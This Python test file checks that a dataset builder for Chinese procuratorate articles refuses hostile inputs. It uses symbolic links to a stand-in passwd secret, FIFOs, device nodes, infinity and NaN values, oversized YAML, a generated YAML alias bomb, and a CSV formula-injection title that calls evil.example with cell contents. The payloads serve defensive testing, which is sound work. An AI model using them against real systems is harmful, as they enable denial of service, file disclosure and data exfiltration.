"""Hostile and careless inputs (issue 11, probes 2, 3, 7, 8 and 12): raw files and mappings are
regular files in their folders, YAML cannot expand itself, every message stays short, numbers are
finite, and a long article costs time linear in its size."""

from __future__ import annotations

import json
import math
import os
import re
import shutil
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path

import jsonschema
import pytest
import yaml
from click.testing import CliRunner

from jiancha.build import Inputs, build, validate
from jiancha.cli import cli
from jiancha.problems import BuildError
from jiancha.sources import SourceError, read_source

from .conftest import ROOT, SCHEMA

TARGET = "003_f22a4de8b00fd4f6"  # a seed whose raw file or mapping a test replaces
SECRET = "root:x:0:0:this line must never be published\n"


def run(*args):
    return CliRunner().invoke(cli, [str(a) for a in args])


def validate_lines(corpus) -> list[str]:
    result = run("validate", "--raw", corpus.raw_dir, "--mappings", corpus.mappings_dir)
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result.output.splitlines()


def outputs_text(folder: Path) -> str:
    return "".join(p.read_bytes().decode("utf-8", "replace") for p in sorted(folder.rglob("*")) if p.is_file())


# ---------------------------------------------------------------------------
# Probe 2: symbolic links (and other files that are not regular files) are refused, by name


@pytest.mark.parametrize("where", ["raw", "mappings"])
def test_a_symbolic_link_is_refused_and_nothing_is_published(corpus, tmp_path, where):
    """`ln -s /etc/passwd articles/raw/005_x.txt` plus a mapping published the file in dataset.json."""
    secret = tmp_path / "passwd"
    secret.write_text(SECRET, encoding="utf-8")
    if where == "raw":
        link = corpus.raw_dir / "005_x.txt"
        (corpus.mappings_dir / "005_x.yaml").write_text("source: 005_x.txt\narticles:\n  - id: leaked\n    segments: [{lines: [1, 1]}]\n", encoding="utf-8")
    else:
        (corpus.raw_dir / "005_x.txt").write_text("某县检察院开展专项活动\n", encoding="utf-8")
        link = corpus.mappings_dir / "005_x.yaml"
        secret.write_text("source: 005_x.txt\narticles:\n  - id: leaked\n    segments: [{lines: [1, 1]}]\n", encoding="utf-8")
    os.symlink(secret, link)
    lines = validate_lines(corpus)
    assert lines[0].startswith(f"{link}: is a symbolic link (to ") and lines[0].endswith(
        "): raw files and mappings must be regular files in their folder; copy the file itself there")
    assert lines[-1] == "1 problem(s) found."
    out = tmp_path / "out"
    with pytest.raises(BuildError):
        build(corpus, out, workers=1)
    assert not out.exists() or "never be published" not in outputs_text(out)
    if where == "raw":
        with pytest.raises(SourceError, match="is a symbolic link"):  # read directly too (jiancha extract)
            read_source(link)


def test_a_link_inside_the_folder_is_refused_too(corpus):
    """No link at all: one to a raw file beside it would still be a second name for its bytes."""
    link = corpus.raw_dir / "005_x.txt"
    os.symlink(corpus.raw_dir / f"{TARGET}.txt", link)
    lines = validate_lines(corpus)
    assert lines[0].startswith(f"{link}: is a symbolic link (to {str(corpus.raw_dir)[:40]}")
    assert lines[-1] == "1 problem(s) found."


def test_a_fifo_is_refused_at_once(corpus, tmp_path):
    """Probe 12: `jiancha extract` on a FIFO named .txt hung (as would validate and build)."""
    fifo = corpus.raw_dir / "005_x.txt"
    os.mkfifo(fifo)
    (corpus.mappings_dir / "005_x.yaml").write_text("source: 005_x.txt\narticles:\n  - id: x\n    segments: [{lines: [1, 1]}]\n", encoding="utf-8")
    os.mkfifo(corpus.mappings_dir / "006_y.yaml")
    started = time.monotonic()
    lines = validate_lines(corpus)
    assert lines == [  # (005_x.yaml is not said to lack its raw file: that raw file is refused)
        f"{corpus.mappings_dir}/006_y.yaml: is a FIFO (named pipe), not a regular file: raw files and mappings must be regular files in their folder",
        f"{fifo}: is a FIFO (named pipe), not a regular file: raw files and mappings must be regular files in their folder",
        "2 problem(s) found.",
    ]
    for command in (["extract", fifo], ["map", "new", fifo], ["-m", "jiancha.sources", fifo]):
        args = [sys.executable, *command] if command[0] == "-m" else [sys.executable, "-m", "jiancha", *command]
        result = subprocess.run([str(a) for a in args], capture_output=True, text=True, timeout=60, cwd=ROOT)
        assert result.returncode == 1 and "is a FIFO (named pipe), not a regular file" in result.stderr, (command, result.stderr)
    assert time.monotonic() - started < 30


def test_a_device_is_refused(corpus):
    device = corpus.raw_dir / "005_x.txt"
    try:
        os.mknod(device, stat.S_IFCHR | 0o600, os.makedev(1, 3))  # /dev/null's numbers
    except (PermissionError, OSError):
        pytest.skip("cannot make a device node here")
    assert validate_lines(corpus)[0] == f"{device}: is a character device, not a regular file: raw files and mappings must be regular files in their folder"


def test_a_file_swapped_for_a_link_after_listing_is_still_refused(corpus, tmp_path):
    """read_source opens without following links (O_NOFOLLOW), so a swap after the folder was listed is caught."""
    secret = tmp_path / "passwd"
    secret.write_text(SECRET, encoding="utf-8")
    path = corpus.raw_dir / f"{TARGET}.txt"
    path.unlink()
    os.symlink(secret, path)
    with pytest.raises(SourceError, match="is a symbolic link"):
        read_source(path)


# ---------------------------------------------------------------------------
# Probe 3: YAML aliases, deep nesting, huge values in messages


def alias_bomb(levels: int = 10, width: int = 9) -> str:
    lines = ["source: 003_f22a4de8b00fd4f6.txt", 'a0: &a0 ["lol"]']
    for i in range(1, levels):
        lines.append(f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * width) + "]")
    lines.append("articles:")
    lines.append("  - id: bomb")
    lines.append("    segments: [{lines: [1, 2]}]")
    lines.append(f"    title: *a{levels - 1}")
    return "\n".join(lines) + "\n"


def test_an_alias_bomb_is_refused_in_no_time(corpus):
    """10 levels × 9 aliases (9^9 values) hung validate and build, memory growing 110 MB/s."""
    mapping = corpus.mappings_dir / f"{TARGET}.yaml"
    mapping.write_text(alias_bomb(), encoding="utf-8")
    result: dict = {}
    worker = threading.Thread(target=lambda: result.update(lines=validate_lines(corpus)), daemon=True)
    started = time.monotonic()
    worker.start()
    worker.join(30)
    assert not worker.is_alive(), "validate hangs on an alias bomb"
    assert time.monotonic() - started < 10
    lines = result["lines"]
    assert lines[0] == f"{mapping}:3: a1[0]: a YAML alias (*name): aliases are not allowed in mappings; write the value out"
    assert lines[-1] == "82 problem(s) found."  # 9 aliases on each of 9 lines, and the title's
    assert all(len(line) < 300 for line in lines)
    with pytest.raises(BuildError) as e:
        build(corpus, corpus.raw_dir.parent / "out", workers=1)
    assert {p.type for p in e.value.problems} == {"yaml-alias"}


@pytest.mark.parametrize("text, path", [
    ("source: x.txt\nbase: &b {province: 北京市}\narticles:\n  - id: x\n    segments: [{lines: [1, 1]}]\n    region: *b\n", "articles[0].region"),
    ("source: x.txt\nbase: &b {province: 北京市}\narticles:\n  - id: x\n    segments: [{lines: [1, 1]}]\n    region:\n      <<: *b\n", "articles[0].region.<<"),
    ("source: x.txt\nids: [&i x]\narticles:\n  - id: *i\n    segments: [{lines: [1, 1]}]\n", "articles[0].id"),
    ("source: x.txt\narticles: &all\n  - id: x\n    segments: [{lines: [1, 1]}]\n    title: [*all]\n", "articles[0].title[0]"),
], ids=["value", "merge-key", "scalar", "recursive"])
def test_any_alias_is_refused_where_it_is_used(tmp_path, text, path):
    from jiancha.mappings import load_mapping

    mapping = tmp_path / "x.yaml"
    mapping.write_text(text, encoding="utf-8")
    loaded = load_mapping(mapping)
    assert [(p.path, p.type) for p in loaded.problems] == [(path, "yaml-alias")]
    assert loaded.articles == []


@pytest.mark.parametrize("depth", [40, 985, 996])  # with the 4 levels above the title: up to 1000, libyaml's limit
def test_deep_nesting_is_one_problem_not_a_traceback(corpus, depth):
    """A mapping nested 990–999 deep gave a RecursionError traceback."""
    mapping = corpus.mappings_dir / f"{TARGET}.yaml"
    mapping.write_text(f"source: {TARGET}.txt\narticles:\n  - id: deep\n    segments: [{{lines: [1, 2]}}]\n    title: "
                       + "[" * depth + "]" * depth + "\n", encoding="utf-8")
    lines = validate_lines(corpus)
    assert lines[0].startswith(f"{mapping}:5: articles[0].title") and lines[0].endswith(
        ": nested more than 32 levels deep: a mapping needs 7 at most (articles[0].metrics[0].change.basis)")
    assert lines[-1] == "1 problem(s) found."


def test_nesting_libyaml_refuses_is_a_syntax_error(corpus):
    mapping = corpus.mappings_dir / f"{TARGET}.yaml"
    mapping.write_text("source: x\narticles: " + "[" * 5000 + "]" * 5000 + "\n", encoding="utf-8")
    lines = validate_lines(corpus)
    assert lines[0].startswith(f"{mapping}:2: YAML syntax error, column ") and "nesting depth" in lines[0]


def test_huge_values_are_cut_in_messages(corpus):
    """The error message printed the expanded value (3.8 MB at 6 levels)."""
    mapping = corpus.mappings_dir / f"{TARGET}.yaml"
    big = "长" * 100_000
    mapping.write_text(f"source: {big}\n? {big}\n: 1\n? {big}\n: 2\narticles:\n  - id: huge\n    segments: [{{start: {big}, end: x}}]\n"
                       f"    title: [{big}]\n    region: {{province: {big}}}\n    metrics:\n      - {{indicator: x, value: {big}, unit: 件, quote: {big}}}\n"
                       f"    initiatives:\n      - {{name: x, quote: {big}}}\n", encoding="utf-8")
    lines = validate_lines(corpus)
    assert len(lines) > 5
    assert max(len(line) for line in lines) < 1200, max(lines, key=len)[:300]
    assert any("… (100,002 characters)" in line for line in lines)


def test_a_huge_mapping_is_refused(corpus):
    mapping = corpus.mappings_dir / f"{TARGET}.yaml"
    mapping.write_bytes(b"# padding\n" * 600_000)
    assert validate_lines(corpus)[0] == f"{mapping}: the mapping is 6,000,000 bytes, more than the limit of 5,242,880 bytes"


# ---------------------------------------------------------------------------
# Probe 8: numbers are finite


@pytest.mark.parametrize("field, value", [
    ("value", ".inf"), ("value", "-.inf"), ("value", ".nan"), ("value", "1e400"),
    ("baseline", ".nan"), ("change", "{direction: up, pct: .inf}"),
])
def test_infinity_and_nan_are_refused(corpus, tmp_path, field, value):
    """`value: .inf`, `.nan`, `1e400`, `pct: .inf` were accepted: strict JSON parsers rejected dataset.json."""
    mapping = corpus.mappings_dir / "000_6dfca6dcd6d852bb.yaml"
    text = mapping.read_text(encoding="utf-8")
    extra = {"value": f"value: {value}", "baseline": f"value: 1, baseline: {value}", "change": f"value: 1, change: {value}"}[field]
    assert text.count("    metrics:\n") == 1
    text = text.replace("    metrics:\n", "    metrics:\n      - {indicator: 醉驾案件, %s, unit: 人, quote: 醉驾}\n" % extra, 1)
    mapping.write_text(text, encoding="utf-8")
    lines = validate_lines(corpus)
    where = {"value": "value", "baseline": "baseline", "change": "change.pct"}[field]
    assert any(f"articles[0].metrics[0].{where}: Input should be a finite number" in line for line in lines), lines
    with pytest.raises(BuildError):
        build(corpus, tmp_path / "out", workers=1)


def test_the_schema_says_numbers_are_finite():
    for name in ("mapping.schema.json", "dataset.schema.json", "article.schema.json"):
        schema = json.loads((SCHEMA / name).read_text(encoding="utf-8"))
        text = json.dumps(schema)
        assert text.count('"maximum": 1.7976931348623157e+308') >= 3, name
    mapping = json.loads((SCHEMA / "mapping.schema.json").read_text(encoding="utf-8"))
    doc = {"source": "x.txt", "articles": [{"id": "x", "segments": [{"lines": [1, 1]}],
                                            "metrics": [{"indicator": "x", "value": float("inf"), "unit": "件", "quote": "x"}]}]}
    assert list(jsonschema.Draft202012Validator(mapping).iter_errors(doc))
    doc["articles"][0]["metrics"][0]["value"] = 880
    assert list(jsonschema.Draft202012Validator(mapping).iter_errors(doc)) == []


def test_a_figure_too_large_for_a_number_is_left_out_by_the_extractor(corpus, tmp_path):
    """10^400 in a text reads as infinity: the extractor's figure is dropped, the build goes on."""
    raw = corpus.raw_dir / "005_x.txt"
    raw.write_text("某县检察院开展专项活动\n2025年，该院共办理案件" + "9" * 400 + "件，同比上升" + "9" * 400 + "%，起诉12人。\n", encoding="utf-8")
    (corpus.mappings_dir / "005_x.yaml").write_text("source: 005_x.txt\narticles:\n  - id: huge-figure\n    segments: [{lines: [1, 2]}]\n", encoding="utf-8")
    out = tmp_path / "out"
    build(corpus, out, workers=1)
    for name in ("dataset.json", "changes.json", "datapackage.json"):
        json.loads((out / name).read_text(encoding="utf-8"), parse_constant=lambda c: pytest.fail(f"{name} holds {c}"))
    for line in (out / "articles.ndjson").read_text(encoding="utf-8").splitlines():
        json.loads(line, parse_constant=lambda c: pytest.fail(f"articles.ndjson holds {c}"))
    record = next(a for a in json.loads((out / "dataset.json").read_text(encoding="utf-8"))["articles"] if a["id"] == "huge-figure")
    assert [m["value"] for m in record["metrics"]] == [12]
    assert all(math.isfinite(m["value"]) for m in record["metrics"])


def test_the_seed_outputs_are_strict_json(seed_build):
    def refuse(constant):
        raise ValueError(constant)

    for name in ("dataset.json", "changes.json", "datapackage.json", "inspect.json", "evaluation.json"):
        json.loads((seed_build / name).read_text(encoding="utf-8"), parse_constant=refuse)
    for line in (seed_build / "articles.ndjson").read_text(encoding="utf-8").splitlines():
        json.loads(line, parse_constant=refuse)


# ---------------------------------------------------------------------------
# Probe 7: a long article costs time linear in its size


def long_article(folder: Path, size: int) -> Inputs:
    """One article of `size` bytes, a distinct figure every few characters (a figure, a change, a sum)."""
    (folder / "raw").mkdir(parents=True)
    (folder / "mappings").mkdir()
    lines, total, n = ["通辽市检察院2025年工作报告", "2026年1月22日 来源:通辽市检察院"], 0, 0
    while total < size:
        n += 1
        line = f"今年以来,该院共受理审查逮捕案件{1000 + n}件{2000 + n}人,同比上升{n % 90 + 1}.{n % 10}%,挽回经济损失{3000 + n}万元。"
        lines.append(line)
        total += len(line.encode("utf-8")) + 1
    (folder / "raw" / "long.txt").write_text("\n".join(lines) + "\n", encoding="utf-8")
    (folder / "mappings" / "long.yaml").write_text(f"source: long.txt\narticles:\n  - id: long\n    segments: [{{lines: [1, {len(lines)}]}}]\n", encoding="utf-8")
    return Inputs(folder / "raw", folder / "mappings", SCHEMA)


def timed(function, *args) -> float:
    started = time.perf_counter()
    function(*args)
    return time.perf_counter() - started


@pytest.mark.slow  # 4 MiB articles validated (~6 s)
def test_validating_a_long_article_takes_time_linear_in_its_size(tmp_path):
    """A 4 MiB article (17,436 metrics) took 58 s to validate: quadratic walks over the figures
    already taken and over the quotes (jiancha/extract/metrics.py, common.py)."""
    small, large = long_article(tmp_path / "small", 128 * 1024), long_article(tmp_path / "large", 512 * 1024)
    assert validate(small) == [] and validate(large) == []
    t_small, t_large = min(timed(validate, small) for _ in range(2)), timed(validate, large)
    assert t_large < 4 * t_small * 2.0, (t_small, t_large)  # 4× the size: about 4× the time (quadratic: 16×)
    assert t_large < 15


@pytest.mark.slow
def test_a_4_mib_article_validates_and_builds_in_time_linear_in_its_size(tmp_path):
    """A 4 MiB article validates and builds in about eight times what a 512 KiB one takes on the same
    machine. (The bound was 60 s of wall clock, which measured the machine: on a slower one, extractors
    1.9 and 1.10 alike validate a MiB of it in 14 s, most of it the JSON Schema check of its 28,000
    metrics, and 4 MiB took 56–70 s from run to run.)"""
    small, large = long_article(tmp_path / "small", 512 * 1024), long_article(tmp_path / "large", 4 * 1024 * 1024 - 4096)
    t_small, t_large = timed(validate, small), timed(validate, large)
    assert t_large < 8 * t_small * 2.0, (t_small, t_large)  # 8× the size: about 8× the time (quadratic: 64×)
    b_small, b_large = timed(build, small, tmp_path / "out-small"), timed(build, large, tmp_path / "out-large")
    assert b_large < 8 * b_small * 2.0, (b_small, b_large)
    assert t_large < 600 and b_large < 600  # and never a hang, on any machine


# ---------------------------------------------------------------------------
# Probe 12: spreadsheet formulas in the downloaded CSV files


def test_formulas_are_neutralised_in_the_csv_downloads(corpus, tmp_path):
    """A title `=HYPERLINK(…)` landed verbatim in articles.csv, which Excel users are told to open."""
    import csv

    mapping = corpus.mappings_dir / "000_6dfca6dcd6d852bb.yaml"
    text = mapping.read_text(encoding="utf-8")
    title = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    text = text.replace('    title: "请人民检阅丨通辽检察:“三个提升年”书写司法为民新篇章"\n', f"    title: '{title}'\n    publisher: '+通辽市检察院'\n", 1)
    text = text.replace("    publisher: 通辽市检察院\n", "", 1)
    mapping.write_text(text, encoding="utf-8")
    out = tmp_path / "out"
    build(corpus, out, workers=1)
    with open(out / "articles.csv", encoding="utf-8-sig", newline="") as f:
        row = next(r for r in csv.DictReader(f) if r["id"] == "tongliao-sange-tisheng-nian")
    assert row["title"] == "'" + title and row["publisher"] == "'+通辽市检察院"
    record = next(a for a in json.loads((out / "dataset.json").read_text(encoding="utf-8"))["articles"] if a["id"] == "tongliao-sange-tisheng-nian")
    assert record["title"] == title  # the data itself keeps the value
    cells = [cell for path in out.glob("*.csv") for r in csv.reader(open(path, encoding="utf-8-sig", newline="")) for cell in r]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or c[:1] == "-" and not re.fullmatch(r"-[0-9.e+-]+", c)]
    package = json.loads((out / "datapackage.json").read_text(encoding="utf-8"))
    assert all("apostrophe" in r["description"] for r in package["resources"] if r["format"] == "csv")
